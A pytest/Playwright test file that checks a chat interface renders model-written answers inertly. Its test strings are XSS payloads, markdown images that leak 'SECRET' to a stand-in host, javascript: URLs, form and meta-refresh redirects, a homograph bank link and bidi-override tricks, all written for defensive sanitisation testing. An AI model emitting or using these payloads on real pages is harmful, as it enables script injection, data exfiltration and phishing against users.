"""What a model writes is read and never obeyed: no script runs, no picture is fetched, no address hides where it leads.

The fake engine answers with what it is asked, so that each test says what "the model" writes.
"""

import pytest
from visit import City, Visit, asked
from playwright.sync_api import expect

OUTSIDE = "https://outside.example"

TEXTS = {
    "script": f"<script>window.hit=1</script><script src={OUTSIDE}/x.js></script>",
    "handlers": f"<img src={OUTSIDE}/x.png onerror='window.hit=1'><svg onload='window.hit=1'></svg><details ontoggle=window.hit=1 open>",
    "frames": f"<iframe src={OUTSIDE}></iframe><object data={OUTSIDE}></object><embed src={OUTSIDE}><link rel=stylesheet href={OUTSIDE}/x.css>",
    "style": f'<style>body{{background:url({OUTSIDE}/bg)}}</style><p style="background:url({OUTSIDE}/p)">x</p>',
    "pictures": f"![기밀]({OUTSIDE}/?q=SECRET) ![x][1]\n\n[1]: {OUTSIDE}/ref.png",
    "form": f"<form action={OUTSIDE}><input name=q value=SECRET></form><meta http-equiv=refresh content='0;url={OUTSIDE}'><base href={OUTSIDE}>",
    "addresses": "[a](javascript:window.hit=1) [b](data:text/html,<script>window.hit=1</script>) [c](java&#115;cript:window.hit=1) <javascript:window.hit=1>",
    "formula": f"$\\href{{javascript:window.hit=1}}{{x}}$ $\\includegraphics{{{OUTSIDE}/f.png}}$ $\\style{{background:url({OUTSIDE})}}{{x}}$",
    "table": f"| a | b |\n|---|---|\n| <img src={OUTSIDE}/t.png> | ![x]({OUTSIDE}/t2.png) |",
    "code": f"```html\n<script>window.hit=1</script><img src={OUTSIDE}/c.png>\n```",
}


@pytest.mark.parametrize("name", TEXTS)
def test_nothing_that_a_model_writes_runs_or_leaves(city: City, visit: Visit, name: str) -> None:
    page = visit.page(city.reader)
    asked(page, TEXTS[name], "fake")
    expect(page.locator(".prose")).to_be_visible()
    # Whatever was going to be fetched or run has its turn.
    page.evaluate("() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))")
    assert page.evaluate("window.hit") is None
    assert (
        page.locator(
            ".answer :is(img, svg:not(.icon), script, iframe, object, embed, link, style, form, base, meta, details)"
        ).count()
        == 0
    )
    assert page.locator(".answer [style*=url], .answer [onerror], .answer [onload]").count() == 0
    assert [href for href in hrefs(page) if not href.startswith(("https://", "mailto:"))] == []


def test_a_link_says_where_it_leads_and_gives_nothing_away(city: City, visit: Visit) -> None:
    page = visit.page(city.reader)
    asked(page, "[은행](https://xn--pple-43d.example/login) 과 https://law.example/제15조", "fake")
    link = page.locator(".prose a").first
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(link).to_have_attribute("target", "_blank")
    expect(page.locator(".prose .host").first).to_have_text("xn--pple-43d.example")
    assert len(hrefs(page)) == 2


def test_text_cannot_be_turned_around(city: City, visit: Visit) -> None:
    page = visit.page(city.reader)
    asked(page, "보내는 곳: \u202egpj.txt\u2066\u200f", "fake")
    shown = page.locator(".answer").inner_text() + page.locator(".question").inner_text()
    assert not set(shown) & {"\u202e", "\u2066", "\u200f"}


def test_what_an_answer_is_good_for_is_still_shown(city: City, visit: Visit) -> None:
    page = visit.page(city.reader)
    asked(
        page,
        "**표**\n\n| 이름 | 값 |\n|---|---:|\n| 가 | 1 |\n\n```python\nprint(1)\n```\n\n- 하나\n\n$\\frac{1}{2}$",
        "fake",
    )
    prose = page.locator(".prose")
    expect(prose.locator("strong")).to_have_text("표")
    expect(prose.locator("td").nth(1)).to_have_text("1")
    expect(prose.locator("pre")).to_have_text("print(1)")
    expect(prose.locator("ul li")).to_have_text("하나")
    expect(prose.locator("math mfrac")).to_be_attached()


def hrefs(page) -> list[str]:
    return page.locator(".answer a").evaluate_all("links => links.map(link => link.getAttribute('href'))")
